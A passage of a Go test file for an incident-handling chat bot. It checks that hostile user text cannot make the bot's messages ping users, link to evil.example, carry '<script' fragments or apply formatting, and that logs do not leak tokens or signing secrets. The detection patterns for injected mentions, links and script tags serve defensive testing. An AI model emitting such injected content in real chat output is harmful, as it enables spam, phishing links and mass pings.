			s.close()
			start()
		}
		for i, g := range send() {
			if g.status != first[i].status || strings.Contains(g.said, "There is no") || strings.Contains(g.said, "not on hold") || len(g.said) == 0 != (len(first[i].said) == 0) {
				t.Errorf("%s, %s: %+v, and the first time %+v", again, bodies[i].body, g, first[i])
			}
		}
		if now := s.record(); now != before {
			t.Errorf("%s it changed the record:\n%s\nwas\n%s", again, now, before)
		}
	}
	s.close()
}

// record is what people and monitors said, and what is held.
func (s *siege) record() string {
	s.t.Helper()
	heads, err := s.app.bot.List(s.t.Context(), incident.Actor{Person: incident.Person{User: ada}}, true)
	must(s.t, err)
	var all strings.Builder
	for _, h := range heads {
		inc, err := s.app.bot.Incident(s.t.Context(), h.ID)
		must(s.t, err)
		for _, e := range inc.Timeline {
			if e.Cause != "" && e.By.Via != "" && e.By != incident.Bot {
				fmt.Fprintf(&all, "%s %s %T %+v\n", h.ID, e.Cause, e.Fact, e.Fact)
			}
		}
	}
	changes, err := store.NewJournal(s.app.kv).Changes(s.t.Context(), time.Time{})
	must(s.t, err)
	fmt.Fprintf(&all, "%d incidents, %d changes, hold %v", len(heads), len(changes), s.app.bot.Holding())
	return all.String()
}

// settled waits until nothing waits any more.
func (s *siege) settled() {
	s.t.Helper()
	j := store.NewJournal(s.app.kv)
	under := func(d sandbox.Delivery) bool { return d.AckedMS == 0 && d.Error == "" }
	must(s.t, until(s.t.Context(), func() bool {
		arrivals, err := j.Arrivals(s.t.Context(), store.Arrival{}, 1)
		done := err == nil && len(arrivals) == 0 && s.app.bot.Backlog().Effects == 0
		return done && !slices.ContainsFunc(s.workspace.State().Deliveries, under) // what came of the effects, in this order
	}))
}

// harmless looks at all that anybody can see in the workspace, and at the log.
func (s *siege) harmless() {
	s.t.Helper()
	messages, hostile := 0, 0
	for _, c := range s.workspace.State().Channels {
		for _, m := range s.workspace.Messages(c.Name) {
			if m.BotID == "" {
				continue
			}
			messages++
			if strings.Contains(m.Text, "zzz") {
				hostile++
			}
			s.plain(m.Text, m.Blocks)
		}
	}
	if messages < 20 || hostile < 10 {
		s.t.Errorf("only %d messages were looked at, %d with hostile words", messages, hostile)
	}
	for _, secret := range []string{"panic", "a request failed", "was not stored", sandboxSigningSecret, sandboxPagerSecret, sandboxWebhookToken, sandboxBotToken} {
		if i := strings.Index(s.log.String(), secret); i >= 0 {
			s.t.Errorf("the log has %s: …%.600s", secret, s.log.String()[max(0, i-100):])
		}
	}
}

// plain refuses a message in which hostile text pings, links or formats.
func (s *siege) plain(text string, blocks []any) {
	s.t.Helper()
	for _, entity := range []string{"<!", "<https://evil", "<@U0DINA>", "<script"} {
		if strings.Contains(text, entity) {
			s.t.Errorf("%s in %.500q", entity, text)
		}
	}
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			kind, _ := v["type"].(string)
			to, _ := v["url"].(string)
			words, _ := v["text"].(string)
			style, styled := v["style"].(map[string]any)
			switch {
			case kind == "broadcast", kind == "usergroup", kind == "user" && v["user_id"] == dina, strings.Contains(to, "evil.example"), strings.Contains(fmt.Sprint(v["image_url"]), "evil.example"):
				s.t.Errorf("it pings or links: %v", v)
			case kind == "mrkdwn" && strings.Contains(words, "zzz"), kind == "text" && words == "zzz" && styled && len(style) > 0:
				s.t.Errorf("it formats: %v", v)
			}
			for _, child := range v {
				walk(child)
			}
		case []any:
			for _, child := range v {
				walk(child)
			}
		}
	}
	walk(plainJSON(s.t, blocks))
}

func plainJSON(t *testing.T, v any) (out any) {
	t.Helper()
	data, err := json.Marshal(v)
	must(t, err)
	must(t, json.Unmarshal(data, &out))
	return out
}
